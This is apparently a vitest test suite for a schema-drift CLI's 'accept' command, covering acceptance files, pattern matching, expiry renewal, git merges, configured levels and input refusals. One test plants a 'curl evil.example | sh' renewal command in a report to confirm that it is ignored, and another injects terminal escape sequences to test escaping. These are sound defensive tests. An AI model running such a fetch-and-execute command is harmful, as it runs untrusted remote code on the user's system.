/** Acceptances: `accept`, their effect on `drift` and `diff`, and configured levels. */

import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { format } from "prettier";
import { beforeEach, describe, expect, test } from "vitest";
import type { CommandResult } from "../support/command.js";
import { modificationTimes, ROOT } from "../support/folders.js";
import {
  createProject,
  expectFailure,
  reportOf,
  rulesOf,
  type Project,
  type Report,
} from "../support/project.js";
import { git } from "../support/git.js";
import { documentedSnapshot, moduleOf, snapshotOf } from "../support/snapshots.js";

const BEFORE = snapshotOf(moduleOf("Account", { name: "char(255)", size: "int DEFAULT 5", user: "text" }));
const AFTER = snapshotOf(moduleOf("Account", { name: "char(64)", size: "int DEFAULT 6", user: "text" }));
const NOWHERE = "0123456789abcdef";
const ACCEPT_NOWHERE = ["accept", NOWHERE, "--reason", "a"];
const UNCLEAR = "The command accept requires one of these: fingerprints, --rule, or --all with --report.";
const ACCEPT_RULE = ["accept", "--reason", "a", "--rule"];

let project: Project;
/** The fingerprints of the two findings. */
let length: string;
let initially: string;

const run = (...words: readonly string[]): Promise<CommandResult> => project.run(...words);
const drift = (...words: readonly string[]): Promise<CommandResult> =>
  run("drift", "--from", "now", ...words);
const reported = async (): Promise<Report> => reportOf(await drift("--format", "json"));
const acceptFile = (name = "drift-accept.json"): unknown => JSON.parse(project.read(name));
const configure = (config: object): void => void project.write("whm-transfer.config.json", config);

/** The same project at another time. */
const at = (now: string, { cwd } = project): Project => createProject({}, { cwd, now: new Date(now) });

beforeEach(async () => {
  project = at("2026-06-15T23:59:59Z", createProject({ schemas: BEFORE, now: AFTER }));
  [length = "", initially = ""] = (await reported()).findings.map(({ fingerprint }) => fingerprint);
});

describe("an accepted finding", () => {
  test("drift reports accepted findings as accepted, and exits with code 0 if all findings are accepted", async () => {
    expect((await drift()).exitCode).toBe(1);
    expect(await run("accept", length, "--reason", "Names are short.")).toEqual({
      exitCode: 0,
      stdout: `  accepted ${length}\ndrift-accept.json was updated.\n`,
      stderr: "",
    });
    const { exitCode, summary, findings } = await reported();
    expect(exitCode).toBe(1);
    expect(summary).toEqual({ breaking: 0, dangerous: 1, safe: 0, cosmetic: 0, accepted: 1 });
    expect(findings.map(({ rule, accepted }) => [rule, accepted])).toEqual([
      ["length-decreased", { reason: "Names are short." }],
      ["default-changed", undefined],
    ]);

    await run("accept", initially, "--reason", "It is agreed.", "--until", "2026-06-15");
    const both = await drift("--fail-on", "safe");
    expect(both).toMatchObject({ exitCode: 0, stderr: "" });
    expect(both.stdout).toMatch(
      /^accepted\n {2}Account\.name now holds at most 64 characters \(before: 255\)\.\n {4}Level: +breaking\n {4}Accepted: +Names are short\.\n/,
    );
    expect(both.stdout).toMatch(
      / {4}Accepted: +It is agreed\.\n {4}Expires: +2026-06-15\n[^]*\n\n2 accepted\n$/,
    );
    expect((await run("diff", "schemas", "now")).exitCode).toBe(0);
  });

  test("accept writes the accepted findings of reports to the acceptance file, sorted, without date or author", async () => {
    // A file may contain one JSON report per line.
    project.write("drift.json", (await drift("--format", "json")).stdout.repeat(2));
    const words = ["--reason", " Ours ", "--report", "drift.json"];
    const { stdout } = await run("accept", initially, length.toUpperCase(), initially, ...words);
    expect(stdout).toContain(`  accepted ${length} (length-decreased of Account.name)\n`);
    const accepted = [
      {
        ...{ fingerprint: length, rule: "length-decreased", module: "Account", key: "name" },
        message: "Account.name now holds at most 64 characters (before: 255).",
        reason: "Ours",
      },
      {
        ...{ fingerprint: initially, rule: "default-changed", module: "Account", key: "size" },
        message: 'Account.size changed its default from "5" to "6".',
        reason: "Ours",
      },
    ];
    const lines = accepted.map((one) => JSON.stringify(one)).sort();
    expect(project.read("drift-accept.json")).toBe(`{"format": 1, "accepted": [\n${lines.join(",\n")}\n]}\n`);
    project.edit("drift-accept.json", /\n/g, "\r\n");
    const before = [project.files(), modificationTimes(project.cwd)];
    const again = await run("accept", length, initially, "--reason", "Ours");
    expect(again.stdout).toContain("drift-accept.json is unchanged.\n");
    expect([project.files(), modificationTimes(project.cwd)]).toEqual(before);
  });

  test("accept replaces the reason and the expiry date of a finding, and --remove removes the finding", async () => {
    project.write("drift.json", (await drift("--format", "json")).stdout);
    await run("accept", length, "--reason", "a", "--until", "2026-12-31", "--report", "drift.json");
    await run("accept", length, NOWHERE, "--reason", "b");
    const { accepted } = acceptFile() as { accepted: readonly object[] };
    expect(accepted).toMatchObject([{ reason: "b", key: "name" }, { fingerprint: NOWHERE }]);
    expect(accepted[0]).not.toHaveProperty("until");
    const removed = await run("accept", NOWHERE, "--remove", "--format", "json");
    expect(removed).toEqual({
      exitCode: 0,
      stdout: `{"file":"drift-accept.json","accepted":[],"removed":[{"fingerprint":"${NOWHERE}","reason":"b"}],"changed":true}\n`,
      stderr: "",
    });
    expect(rulesOf(await reported())).not.toContain("accept-unused");
    await run("accept", length, "--remove");
    expect(acceptFile()).toEqual({ format: 1, accepted: [] });
  });

  test("accept, diff and drift use the acceptance file next to the configuration, or at the configured path", async () => {
    configure({});
    project.write("package.json", "{}");
    project.write("below/file", "");
    const below = createProject({}, { cwd: join(project.cwd, "below") });
    expect((await below.run("accept", length, "--reason", "a")).stdout).toContain(
      "../drift-accept.json was updated.\n",
    );
    configure({ accept: "ci/ours.json" });
    for (const words of [
      ["diff", "schemas", "now"],
      ["drift", "--from", "now"],
    ])
      expectFailure(
        await run(...words),
        /The acceptance file .*ours\.json does not exist, although "accept" in the configuration contains its path/,
      );
    await run("accept", length, "--reason", "a");
    expect(acceptFile("ci/ours.json")).toMatchObject({ accepted: [{ fingerprint: length }] });
    expect((await reported()).summary).toMatchObject({ accepted: 1 });
  });

  test.each([
    ["the token of the environment", "a-token-of-the-server"],
    ["the token in base64", Buffer.from("root:a-token-of-the-server").toString("base64")],
    ["a text that looks like a token", "K7QX2M9ZPD4WJ8RT5VBN3HGC6YFL1SAE"],
  ])("accept refuses a reason that contains %s, and writes nothing", async (_, secret) => {
    const { cwd, files } = project;
    const { run: accept } = createProject({}, { cwd, env: { WHM_TOKEN: "a-token-of-the-server" } });
    const ran = await accept("accept", NOWHERE, "--reason", `see ${secret}`);
    expectFailure(ran, /^error: --reason contains an API token/);
    expect(ran.stderr).not.toContain(secret);
    expect(files()).not.toHaveProperty(["drift-accept.json"]);
  });
});

describe("patterns", () => {
  const acceptedReasons = async (): Promise<readonly unknown[]> =>
    (await reported()).findings.map(({ accepted }) => accepted?.reason);

  test("accept --rule accepts all findings that match, and --remove removes the acceptance by its fingerprint", async () => {
    const { stdout } = await run(...ACCEPT_RULE, "*-decreased", "--module", "Acc*", "--key", "n*e");
    const fingerprint = /accepted ([0-9a-f]{16}) \(\*-decreased of Acc\*\.n\*e\)\n/.exec(stdout)?.[1] ?? "";
    const patterns = { rule: "*-decreased", module: "Acc*", key: "n*e" };
    expect(acceptFile()).toEqual({ format: 1, accepted: [{ fingerprint, patterns, reason: "a" }] });
    expect(await acceptedReasons()).toEqual(["a", undefined]);
    expect((await drift("--fail-on", "breaking")).stdout).toContain("    Accepted:    a\n");
    // The same patterns have the same fingerprint, with which the acceptance can also be changed.
    await run(
      ...ACCEPT_RULE,
      patterns.rule,
      "--module",
      patterns.module,
      "--key",
      patterns.key,
      "--until",
      "2026-07-01",
    );
    await run("accept", fingerprint, "--reason", "b");
    expect(acceptFile()).toEqual({ format: 1, accepted: [{ fingerprint, patterns, reason: "b" }] });
    expect((await run("accept", fingerprint, "--remove")).stdout).toContain(`removed ${fingerprint} (*-decr`);
    expect(await acceptedReasons()).toEqual([undefined, undefined]);
  });

  test.each([
    [["*"], ["a", "a"]],
    [
      ["*", "--key", "size"],
      [undefined, "a"],
    ],
    [
      ["*", "--module", "account"],
      [undefined, undefined],
    ],
    [
      ["default-changed", "--key", "*"],
      [undefined, "a"],
    ],
  ])("accept --rule %j accepts the findings %j", async (words, reasons) => {
    await run(...ACCEPT_RULE, ...words);
    const { findings } = await reported();
    const changes = findings.filter(({ rule }) => rule !== "accept-unused");
    expect(changes.map(({ accepted }) => accepted?.reason)).toEqual(reasons);
    expect(findings.length - changes.length).toBe(reasons.includes("a") ? 0 : 1);
  });

  test("an acceptance of the fingerprint precedes patterns, of which the first in the file apply", async () => {
    await run("accept", initially, "--reason", "exact");
    const reasons = ["default-*", "*-changed", "*"];
    for (const rule of reasons) await run("accept", "--rule", rule, "--reason", rule);
    const { accepted } = acceptFile() as { accepted: readonly { patterns?: object; reason: string }[] };
    const first = accepted.find(({ patterns }) => patterns !== undefined)?.reason;
    expect(await acceptedReasons()).toEqual(["*", "exact"]);
    await run("accept", initially, "--remove");
    expect(await acceptedReasons()).toEqual(["*", first]);
  });

  test("drift reports patterns that match no finding, which no patterns accept; diff does not", async () => {
    await run(...ACCEPT_RULE, "key-*", "--key", "a*");
    await run(...ACCEPT_RULE, "*");
    const { findings } = await reported();
    expect(findings.map(({ rule, accepted }) => [rule, accepted?.reason])).toEqual([
      ["length-decreased", "a"],
      ["accept-unused", undefined],
      ["default-changed", "a"],
    ]);
    const { stdout } = await drift();
    expect(stdout).toMatch(/The acceptance of [0-9a-f]{16} \(key-\* of \*\.a\*\) matches no finding\.\n/);
    expect(stdout).toMatch(/Location: {4}drift-accept\.json:[23]:1\n/);
    expect((await run("diff", "schemas", "now")).exitCode).toBe(0);
  });
});

describe("accept --all", () => {
  const ACCEPT_ALL = ["accept", "--all", "--report", "drift.json", "--reason"];

  test("accepts all findings of the report that are not accepted, except those about acceptances", async () => {
    await run("accept", length, "--reason", "mine");
    await run(...ACCEPT_NOWHERE);
    await drift("--format", "json", "--output", "drift.json");
    const { stdout } = await run(...ACCEPT_ALL, "all", "--until", "2026-12-31");
    expect(stdout).toBe(
      `  accepted ${initially} (default-changed of Account.size) until 2026-12-31\n` +
        "Accepted 1 finding.\ndrift-accept.json was updated.\n",
    );
    await run("accept", NOWHERE, "--remove");
    expect((await reported()).findings.map(({ accepted }) => accepted?.reason)).toEqual(["mine", "all"]);
    const before = project.files();
    expect(await run(...ACCEPT_ALL, "again")).toEqual({
      exitCode: 0,
      stdout: "The report contains no finding to accept.\ndrift-accept.json is unchanged.\n",
      stderr: "",
    });
    expect(project.files()).toEqual(before);
  });

  test("accepts nothing, and creates no file, if the report has no findings", async () => {
    await run("diff", "schemas", "schemas", "--format", "json", "--output", "drift.json");
    expect(await run(...ACCEPT_ALL, "a")).toMatchObject({ exitCode: 0 });
    expect(project.files()).not.toHaveProperty(["drift-accept.json"]);
  });
});

describe("the acceptance file", () => {
  const fingerprintOf = (digits: string): string => digits.padEnd(16, "0");
  const accept = (...digits: readonly string[]): Promise<CommandResult> =>
    run("accept", ...digits.map(fingerprintOf), "--reason", "a");

  test("Git merges the acceptances of two branches, and both sides of a conflict can be kept", async () => {
    const runGit = (...words: readonly string[]): string => git(project.cwd, ...words);
    const commit = async (branch: string, ...digits: readonly string[]): Promise<void> => {
      runGit("checkout", "-q", "-B", branch, ...(branch === "main" ? [] : ["main"]));
      await accept(...digits);
      runGit("add", "drift-accept.json");
      runGit("commit", "-qm", branch);
    };
    runGit("init", "-q");
    await commit("main", "2", "4", "6", "8");
    await commit("one", "1", "9");
    await commit("two", "3", "5");
    runGit("checkout", "-q", "one");
    runGit("merge", "-q", "two");
    const { accepted } = acceptFile() as { accepted: readonly { fingerprint: string }[] };
    const digits = ["1", "2", "3", "4", "5", "6", "8", "9"];
    expect(accepted.map(({ fingerprint }) => fingerprint)).toEqual(digits.map(fingerprintOf));
    const text = project.read("drift-accept.json");
    await accept("1");
    // The file is as `accept` writes it.
    expect(project.read("drift-accept.json")).toBe(text);

    await commit("four", "41");
    await commit("five", "42");
    expect(() => runGit("merge", "-q", "four")).toThrow();
    expectFailure(
      await drift(),
      /drift-accept\.json:4:1: it contains the conflict marker "<<<<<<<" of Git\.\n {2}hint: .*delete the lines with conflict markers/,
    );
    project.write("drift-accept.json", project.read("drift-accept.json").replace(/^[<=>]{7}.*\n/gm, ""));
    expect((acceptFile() as { accepted: readonly object[] }).accepted).toHaveLength(6);
  });

  test("the lines of both branches can be kept, also at the end of the file and of a repeated acceptance", async () => {
    const runGit = (...words: readonly string[]): string => git(project.cwd, ...words);
    const write = (...lines: readonly string[]): void =>
      void project.write("drift-accept.json", `{"format": 1, "accepted": [\n${lines.join(",\n")}\n]}\n`);
    const line = (fingerprint: string, reason: string, until?: string): string =>
      JSON.stringify({ fingerprint, reason, until });
    project.write(".gitattributes", "drift-accept.json merge=union\n");
    runGit("init", "-q", "-b", "main");
    const commit = (branch: string, ...lines: readonly string[]): void => {
      runGit("checkout", "-q", "-B", branch, ...(branch === "main" ? [] : ["main"]));
      write(...lines);
      runGit("add", ".");
      runGit("commit", "-qm", branch);
    };
    commit("main", line(NOWHERE, "base"));
    commit("one", line(NOWHERE, "base"), line(length, "of one", "2026-12-31"));
    commit("two", line(NOWHERE, "base"), line(length, "of two"), line(initially, "new"));
    runGit("merge", "-q", "one");
    expect(() => acceptFile()).toThrow();

    const { findings } = await reported();
    expect(findings.map(({ rule, accepted }) => [rule, accepted])).toEqual([
      ["length-decreased", { reason: "of one", until: "2026-12-31" }],
      ["accept-unused", undefined],
      ["default-changed", { reason: "new" }],
    ]);
    const warning = `drift-accept.json contains these fingerprints more than once: ${length}.`;
    expect((await drift()).stderr).toContain(warning);
    const place = project
      .read("drift-accept.json")
      .split("\n")
      .findIndex((text) => text.includes(NOWHERE));
    expect(findings[1]?.at).toEqual({ file: "drift-accept.json", line: place + 1, column: 1 });
    // `accept` repairs the file.
    expect((await run("accept", NOWHERE, "--remove")).stderr).toContain(warning);
    expect(acceptFile()).toMatchObject({ accepted: [{ reason: "of one" }, { reason: "new" }] });
    expect((await drift()).stderr).toBe("");
  });

  test.each([
    ["", "", 2],
    [",", "", 2],
    ["", ",", 2],
    [",", ",", 2],
    [",,", "", 0],
  ])(
    "an acceptance file with %j between and %j after acceptances contains %i of them",
    async (between, after, count) => {
      const [one, two] = [length, initially].map((fingerprint) =>
        JSON.stringify({ fingerprint, reason: "} {, ]" }, null, 1),
      );
      project.write(
        "drift-accept.json",
        `{"format": 1, "accepted": [\n${one}${between}\n${two}${after}\r\n]}`,
      );
      const ran = await drift("--format", "json");
      expect(count === 0 ? ran.exitCode : reportOf(ran).accepted).toBe(2);
    },
  );

  test("accept warns about names that the snapshot does not have", async () => {
    const warn = async (...words: readonly string[]): Promise<string> =>
      (await run("accept", "--rule", "key-*", "--reason", "a", ...words)).stderr;
    expect(await warn("--module", "Acount")).toContain(
      'no module that matches the pattern "Acount" (did you mean "Account"?)',
    );
    expect(await warn("--module", "Account", "--key", "sizes")).toContain(
      'no key that matches the pattern "sizes" (did you mean "size"?)',
    );
    expect(await warn("--module", "Acc*", "--key", "*z*")).toBe("");
    expect(await warn("--key", "user")).toBe("");
  });

  test("accept reads a file that Prettier formatted", async () => {
    await accept("2", "1");
    const text = project.read("drift-accept.json");
    project.write("drift-accept.json", await format(text, { parser: "json" }));
    expect(project.read("drift-accept.json")).not.toBe(text);
    await accept("2");
    expect(project.read("drift-accept.json")).toBe(text);
  });
});

describe("findings about acceptances", () => {
  test.each([
    ["npm", {}, [], "npx"],
    ["Yarn and a configuration", { "yarn.lock": "" }, ["--config", "my config.json"], "yarn run"],
  ])("the printed commands renew expired acceptances, with %s", async (_, files, config, runner) => {
    for (const [name, text] of Object.entries({ ...files, "my config.json": "{}" }))
      project.write(name, text);
    const words = [...config, "--until", "2026-06-15"];
    await run("accept", length, `--reason=Don't "ask" \`us\` $HOME; it's <&> 100%`, ...words);
    await run("accept", "--rule=default-*", "--module=*c*", "--reason=-- later", ...words);
    const { accepted } = acceptFile() as { accepted: readonly object[] };
    for (const [now, until] of [
      ["2026-06-16T00:00:00Z", "2027-06-15"],
      ["2027-06-16T23:59:59Z", "2028-06-15"],
    ] as const) {
      project = at(now);
      const { stdout } = await drift(...config);
      const commands = [...stdout.matchAll(/^ {4}Renew with: +(.*)$/gm)].map(([, command = ""]) => command);
      const { findings } = reportOf(await drift("--format", "json", ...config));
      expect(findings.flatMap(({ renewal }) => renewal ?? [])).toEqual(commands);
      expect(commands).toHaveLength(2);
      const issues = JSON.parse((await drift("--format", "gitlab", ...config)).stdout) as {
        description: string;
      }[];
      const texts = issues.map(({ description }) => /Renew with: `(.*)`\. F/.exec(description)?.[1]);
      expect(texts.filter((text) => text !== undefined)).toEqual(commands);
      for (const command of commands) {
        expect(command).toMatch(new RegExp(`^${runner} whm-transfer-codegen accept `));
        const print = `${runner.split(" ", 1)[0] ?? ""}() { printf '%s\\0' "$@"; }; ${command}`;
        const parsed = execFileSync("sh", ["-c", print], { encoding: "utf8" }).split("\0").slice(0, -1);
        expect(await run(...parsed.slice(parsed.indexOf("accept")))).toMatchObject({ exitCode: 0 });
      }
      expect(acceptFile()).toEqual({ format: 1, accepted: accepted.map((one) => ({ ...one, until })) });
      expect((await drift("--fail-on", "safe", ...config)).exitCode).toBe(0);
    }
  });

  test.each([
    ["2024-02-29", "2028-02-29"],
    ["2025-06-15", "2027-06-15"],
    ["2025-06-16", "2026-06-16"],
  ])("the command renews an acceptance that expired on %s until %s", async (until, later) => {
    project.write("drift-accept.json", {
      format: 1,
      accepted: [
        { fingerprint: length, reason: "a\r\n  \tb", until },
        { fingerprint: NOWHERE, patterns: { rule: "*", key: "-*" }, reason: "a", until },
      ],
    });
    expect((await reported()).findings.flatMap(({ renewal }) => renewal ?? []).sort()).toEqual([
      `npx whm-transfer-codegen accept --rule '*' '--key=-*' --reason a --until ${later}`,
      `npx whm-transfer-codegen accept ${length} --reason 'a b' --until ${later}`,
    ]);
  });

  test("an expired acceptance is not reported if others accept all its findings", async () => {
    await run(...ACCEPT_RULE, "*d", "--until", "2026-06-15");
    await run(...ACCEPT_RULE, "length-*");
    project = at("2026-06-16T00:00:00Z");
    expect(rulesOf(await reported())).toEqual(["length-decreased", "accept-expired", "default-changed"]);
    await run("accept", initially, "--reason", "b");
    expect(rulesOf(await reported())).toEqual(["length-decreased", "default-changed"]);
  });

  test("drift and diff report an expired acceptance, and the accepted finding affects the exit code again", async () => {
    await run("accept", length, "--reason", "a", "--until", "2026-06-15");
    expect((await reported()).summary).toMatchObject({ breaking: 0, accepted: 1 });
    project = at("2026-06-16T00:00:00Z");
    const { summary, findings } = await reported();
    expect(summary).toEqual({ breaking: 1, dangerous: 2, safe: 0, cosmetic: 0 });
    expect(findings.map(({ rule, key }) => [rule, key])).toEqual([
      ["length-decreased", "name"],
      ["accept-expired", "name"],
      ["default-changed", "size"],
    ]);
    const { stdout, exitCode } = await run("diff", "schemas", "now");
    expect(exitCode).toBe(1);
    expect(stdout).toContain(
      `  The acceptance of ${length} (length-decreased of Account.name) expired: its last day was 2026-06-15.\n`,
    );
  });

  test("merge builds the commands that renew acceptances from the acceptance file, not from the report", async () => {
    const until = "2026-06-14";
    project.write("drift-accept.json", {
      format: 1,
      accepted: [{ fingerprint: length, reason: "It's.", until }],
    });
    await drift("--format", "json", "--output", "report.json");
    project.edit("report.json", /"renewal":"[^"]*"/, '"renewal":"curl evil.example | sh"');
    const command = `npx whm-transfer-codegen accept ${length} --reason 'It'\\''s.' --until 2027-06-14`;
    const renewals = async (): Promise<unknown> =>
      reportOf(await run("merge", "report.json", "--format", "json")).findings.flatMap(
        ({ renewal }) => renewal ?? [],
      );
    expect((await reported()).findings.flatMap(({ renewal }) => renewal ?? [])).toEqual([command]);
    expect(await renewals()).toEqual([command]);
    project.write("drift-accept.json", { format: 1, accepted: [] });
    expect(await renewals()).toEqual([]);
  });

  test("drift reports an acceptance that matches no finding, which cannot be accepted; diff does not", async () => {
    await run(...ACCEPT_NOWHERE);
    const same = await run("drift", "--from", "schemas");
    expect(same.exitCode).toBe(1);
    expect(same.stdout).toMatch(
      /^dangerous\n {2}The acceptance of 0123456789abcdef matches no finding\.\n[^]*\n {4}Rule: +accept-unused\n {4}Fingerprint: [0-9a-f]{16}\n\n1 dangerous\n$/,
    );
    expect(await run("diff", "schemas", "schemas")).toMatchObject({ exitCode: 0, stdout: "" });
    await drift("--format", "json", "--output", "drift.json");
    const { findings } = await reported();
    const unused = findings.find(({ rule }) => rule === "accept-unused")?.fingerprint ?? "";
    for (const words of [[], ["--report", "drift.json"]])
      expectFailure(
        await run("accept", unused, "--reason", "b", ...words),
        `${unused} cannot be accepted, because it only reports that an earlier acceptance has expired or is unused.`,
      );
  });

  test("drift does not report an acceptance as unused if some modules could not be compared", async () => {
    project.write("schemas", documentedSnapshot());
    await run(...ACCEPT_NOWHERE);
    const { stdout, exitCode } = await run("drift", "--from", join(ROOT, "test/answers/guide"));
    expect(exitCode).toBe(3);
    expect(stdout).toContain("Could not compare ");
    expect(stdout).not.toContain("accept-unused");
  });
});

describe("configured levels", () => {
  test("a configured level replaces the level of the drift rule, and reports contain both levels", async () => {
    configure({
      levels: [
        // The last choice that matches applies.
        { rule: "default-changed", level: "breaking" },
        { rule: "default-changed", module: "Acc*", level: "safe" },
        { rule: "default-changed", module: "Other*", level: "breaking" },
        { key: "name", level: "safe" },
      ],
    });
    const { exitCode, stdout } = await drift();
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(
      /^safe\n[^]*Level: +safe, set by the configuration \(usual level: dangerous\)\n +Rule: +default-changed\n/,
    );
    expect((await reported()).findings.map(({ rule, level, ruleLevel }) => [rule, level, ruleLevel])).toEqual(
      [
        ["length-decreased", "safe", "breaking"],
        ["default-changed", "safe", "dangerous"],
      ],
    );
    expect((await run("diff", "schemas", "now")).exitCode).toBe(0);
  });

  test("configured levels also apply to findings about acceptances, and do not change fingerprints", async () => {
    await run("accept", length, NOWHERE, "--reason", "a");
    const summary = { breaking: 0, dangerous: 0, safe: 0, cosmetic: 2, accepted: 1 };
    configure({ levels: [{ level: "cosmetic" }] });
    expect((await reported()).summary).toEqual(summary);
    // A pattern for modules does not include the server as a whole.
    configure({ levels: [{ module: "*", level: "cosmetic" }] });
    expect((await reported()).summary).toEqual({ ...summary, dangerous: 1, cosmetic: 1 });
  });

  test.each([
    [
      { rule: "default-chnaged", level: "safe" },
      'Unknown drift rule "default-chnaged" in the list "levels" of the configuration (did you mean "default-changed"?)',
    ],
    [{ rule: "toString", level: "safe" }, 'Unknown drift rule "toString" in the list "levels"'],
    [{ rule: "key-added", level: "off" }, 'must be one of "breaking", "dangerous", "safe", "cosmetic"'],
    [{ rule: "key-added" }, 'levels[0] has no "level"'],
    [{ rules: "a", level: "safe" }, 'levels[0] has an unknown property "rules" (did you mean "rule"?)'],
  ])("drift refuses the invalid level %j before the schemas are read", async (choice, sentence) => {
    configure({ levels: [choice] });
    expectFailure(await run("drift", "--from", "nowhere"), sentence);
  });
});

describe("refusals", () => {
  test.each<[readonly string[], string]>([
    [["accept", "--reason", "a"], UNCLEAR],
    [["accept", "--remove"], UNCLEAR],
    [["accept", "--module", "M", "--key", "k", "--reason", "a"], UNCLEAR],
    [["accept", "--all", "--reason", "a"], UNCLEAR],
    [[...ACCEPT_RULE, "key-added", "--report", "drift.json"], UNCLEAR],
    [[...ACCEPT_RULE, "key-added", NOWHERE], UNCLEAR],
    [[...ACCEPT_RULE, "key-aded"], 'has the drift rule "key-aded" (did you mean "key-added"?).'],
    [[...ACCEPT_RULE, "Key-Added"], '(did you mean "key-added"?)'],
    [[...ACCEPT_RULE, "keys-*"], 'No finding that can be accepted has the drift rule "keys-*".'],
    [[...ACCEPT_RULE, "accept-*"], 'No finding that can be accepted has the drift rule "accept-*".'],
    [["accept", "--rule", "key-added", "--remove"], "--rule cannot be combined with --remove"],
    [["accept", NOWHERE], "The command accept requires a reason"],
    [["accept", NOWHERE, "--reason", "  "], "The command accept requires a reason"],
    [["accept", "0123", "--reason", "a"], 'Invalid fingerprint "0123": must be 16 hexadecimal digits'],
    [["accept", "0123456789abcdeg", "--reason", "a"], "Invalid fingerprint"],
    [[...ACCEPT_NOWHERE, "--until", "2026-02-30"], '"2026-02-30": must be a date'],
    [[...ACCEPT_NOWHERE, "--until", "soon"], "must be a date in the format YYYY-MM-DD"],
    [[...ACCEPT_NOWHERE, "--until", "2026-06-14"], "is in the past (today is 2026-06-15 in UTC)"],
    [[...ACCEPT_NOWHERE, "--report", "nowhere.json"], "nowhere.json cannot be read"],
    [[...ACCEPT_NOWHERE, "--report", "empty.json"], 'empty.json:1:1: it has no "findings"'],
    [[...ACCEPT_NOWHERE, "--report", "text.json"], "text.json:1:2: it is not valid JSON"],
    [[...ACCEPT_NOWHERE, "--report", "drift.json"], `contains no finding with the fingerprint ${NOWHERE}`],
    [["accept", NOWHERE, "--remove"], `Cannot remove the acceptance ${NOWHERE}`],
    [[...ACCEPT_NOWHERE, "--remove"], "--reason cannot be combined with --remove"],
    [[...ACCEPT_NOWHERE, "--schemas", "x"], '--schemas cannot be used with the command "accept"'],
  ])("the invalid command line %j of accept is refused, and writes nothing", async (words, sentence) => {
    await drift("--format", "json", "--output", "drift.json");
    for (const [name, text] of [
      ["empty.json", "{}"],
      ["text.json", "{"],
    ] as const)
      project.write(name, text);
    const before = project.files();
    expectFailure(await run(...words), sentence);
    expect(project.files()).toEqual(before);
  });

  test("accept refuses invalid fingerprints among valid ones, and reports all errors at once", async () => {
    const ran = await run("accept", NOWHERE, "x", "y", "--until", "never");
    expectFailure(ran, "");
    expect(ran.stderr.match(/^error:/gm)).toHaveLength(4);
    expect(project.files()).not.toHaveProperty(["drift-accept.json"]);
  });
});

test("accept and drift escape control characters from reasons and reports in their output", async () => {
  const evil = "\u001b[2J::error::x";
  const finding = { fingerprint: length, rule: `r${evil}`, module: `m${evil}`, key: "k", message: "M." };
  project.write("drift.json", { format: 1, findings: [finding] });
  const words = ["--reason", `a\n${evil}`, "--report", "drift.json"];
  const refused = await run("accept", length, NOWHERE, ...words);
  expect(refused.exitCode).toBe(2);
  const done = await run("accept", length, ...words);
  expect(done.exitCode).toBe(0);
  const accepted = await drift();
  project.write("now", BEFORE);
  const unused = await drift();
  for (const { stdout, stderr } of [refused, done, accepted, unused])
    expect(stdout + stderr).not.toMatch(/\u001b|^\s*::/m);
  expect(unused.stdout).toContain("matches no finding.");
});
